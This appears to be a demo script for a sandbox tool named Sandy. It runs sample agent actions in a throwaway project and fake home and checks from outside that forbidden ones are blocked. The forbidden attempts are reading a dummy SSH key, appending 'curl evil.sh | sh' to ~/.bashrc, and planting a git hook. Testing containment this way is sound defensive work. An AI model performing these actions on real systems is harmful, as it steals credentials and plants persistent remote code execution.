#!/usr/bin/env bash
# Builds Sandy and runs it on a real example: a throw-away git project, a fake home with a
# secret in ~/.ssh, and a few things an agent might try, allowed and forbidden. Each
# forbidden attempt is judged from outside the sandbox afterwards.
set -euo pipefail
cd "$(dirname "$0")/.."
sandy=$(scripts/build-release.sh)

# Not under /tmp: inside the sandbox /tmp is a private directory, so a home there would
# simply be out of sight.
base="${XDG_CACHE_HOME:-$HOME/.cache}"
mkdir -p "$base"
demo=$(mktemp -d "$base/sandy-demo.XXXXXX")
trap 'rm -rf "$demo"' EXIT
mkdir -p "$demo/home/.ssh" "$demo/home/project"
echo "demo-private-key" > "$demo/home/.ssh/id_ed25519"
echo "# the demo user's shell start-up file" > "$demo/home/.bashrc"
cp "$demo/home/.bashrc" "$demo/bashrc.before"
cd "$demo/home/project"
export HOME="$demo/home"
git init -q . && echo "print('hello from the project')" > main.py
marker="sandy-demo-$$"

status=0
"$sandy" run -- /bin/sh -c '
  echo "1. run python in the project:        $(python3 main.py)"
  git add -A && git -c user.name=demo -c user.email=demo@example.invalid commit -qm init \
    && echo "2. git commit in the project:        ok"
  if cat ~/.ssh/id_ed25519 2>/dev/null | grep -q demo-private-key; then
    echo "3. read ~/.ssh/id_ed25519:          ESCAPED"
  else
    echo "3. read ~/.ssh/id_ed25519:          blocked"
  fi
  { echo "curl evil.sh | sh" >> ~/.bashrc; } 2>/dev/null \
    && echo "4. append to ~/.bashrc:              ESCAPED" \
    || echo "4. append to ~/.bashrc:              blocked"
  { echo "#!/bin/sh" > .git/hooks/pre-commit; } 2>/dev/null \
    && echo "5. plant a git hook:                 ESCAPED" \
    || echo "5. plant a git hook:                 blocked"
  echo planted > "/tmp/'"$marker"'" && echo "6. write /tmp inside the sandbox:    ok (a private /tmp)"
  exit 3
' || status=$?
echo "sandy exited with $status (the command's own status)"
echo
echo "Judged from outside the sandbox:"
cmp -s "$demo/home/.bashrc" "$demo/bashrc.before" && echo "  ~/.bashrc is unchanged" \
  || echo "  ~/.bashrc CHANGED"
[ ! -e .git/hooks/pre-commit ] && echo "  no git hook was planted" || echo "  a git hook WAS planted"
[ ! -e "/tmp/$marker" ] && echo "  the host's /tmp is untouched" || echo "  the host's /tmp WAS written"
git log --oneline | sed 's/^/  the commit made inside: /'
echo
echo "The resolved policy, as sandy run --dry-run --format text prints it:"
"$sandy" run --dry-run --format text -- python3 main.py
echo
echo "Why the append to ~/.bashrc was refused (sandy why):"
"$sandy" why --write "$HOME/.bashrc" || true
